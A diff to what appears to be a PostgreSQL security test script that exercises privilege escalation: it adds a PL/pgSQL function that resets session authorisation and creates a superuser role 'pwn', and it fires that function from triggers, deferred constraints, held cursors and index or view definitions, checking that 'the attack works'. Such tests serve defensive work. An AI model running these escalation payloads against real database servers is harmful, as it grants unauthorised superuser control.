@@ -82,17 +82,25 @@ BEGIN
 	END LOOP;
 	RETURN true;
 END $$;
+-- without subtransactions, which an assertion of the server forbids at commit
+CREATE FUNCTION s.attack_plain() RETURNS bool LANGUAGE plpgsql AS $$
+BEGIN
+	EXECUTE 'RESET SESSION AUTHORIZATION';
+	EXECUTE 'CREATE ROLE pwn SUPERUSER';
+	RETURN true;
+END $$;
 CREATE FUNCTION s.attack_index(int) RETURNS int IMMUTABLE LANGUAGE plpgsql AS
 $$ BEGIN PERFORM s.attack(); RETURN $1; END $$;
 CREATE FUNCTION s.attack_trigger() RETURNS trigger LANGUAGE plpgsql AS
-$$ BEGIN PERFORM s.attack(); RETURN NULL; END $$;
+$$ BEGIN PERFORM s.attack_plain(); RETURN NULL; END $$;
 CREATE FUNCTION s.attack_again() RETURNS trigger LANGUAGE plpgsql AS $$
 BEGIN
-	IF NEW.id < 20 THEN
+	IF NEW.id < 3 THEN
 		SET CONSTRAINTS ALL DEFERRED;
 		INSERT INTO s.again VALUES (NEW.id + 1);
+	ELSE
+		PERFORM s.attack_plain();
 	END IF;
-	PERFORM s.attack();
 	RETURN NULL;
 END $$;
 CREATE TABLE s.deferred (id int);
@@ -119,7 +127,7 @@ for my $become ('SET ROLE owner', 'SET SESSION AUTHORIZATION app')
 		'SELECT s.attack()',
 		'INSERT INTO s.deferred VALUES (1)',
 		'INSERT INTO s.again VALUES (1)',
-		'BEGIN; DECLARE c CURSOR WITH HOLD FOR SELECT s.attack(); COMMIT')
+		'BEGIN; DECLARE c CURSOR WITH HOLD FOR SELECT s.attack_plain(); COMMIT')
 	{
 		notices($node, "$become; $sql");
 		is(pwned(), '1', "the attack works: $become; $sql");
@@ -136,8 +144,8 @@ my @attacks = (
 	'DO $$ BEGIN PERFORM s.attack(); END $$',
 	'INSERT INTO s.deferred VALUES (1)',
 	'INSERT INTO s.again VALUES (1)',
-	'DECLARE c CURSOR WITH HOLD FOR SELECT s.attack()',
-	'DO $$ BEGIN EXECUTE \'DECLARE c CURSOR WITH HOLD FOR SELECT s.attack()\'; END $$',
+	'DECLARE c CURSOR WITH HOLD FOR SELECT s.attack_plain()',
+	'DO $$ BEGIN EXECUTE \'DECLARE c CURSOR WITH HOLD FOR SELECT s.attack_plain()\'; END $$',
 	'CREATE TABLE s.i (id int); INSERT INTO s.i VALUES (1); CREATE INDEX CONCURRENTLY ON s.i (s.attack_index(id)); DROP TABLE s.i',
 	'CREATE MATERIALIZED VIEW s.m AS SELECT s.attack(); VACUUM; REFRESH MATERIALIZED VIEW s.m; DROP MATERIALIZED VIEW s.m',
 	'DISCARD TEMP; RESET ALL; SELECT s.attack()',
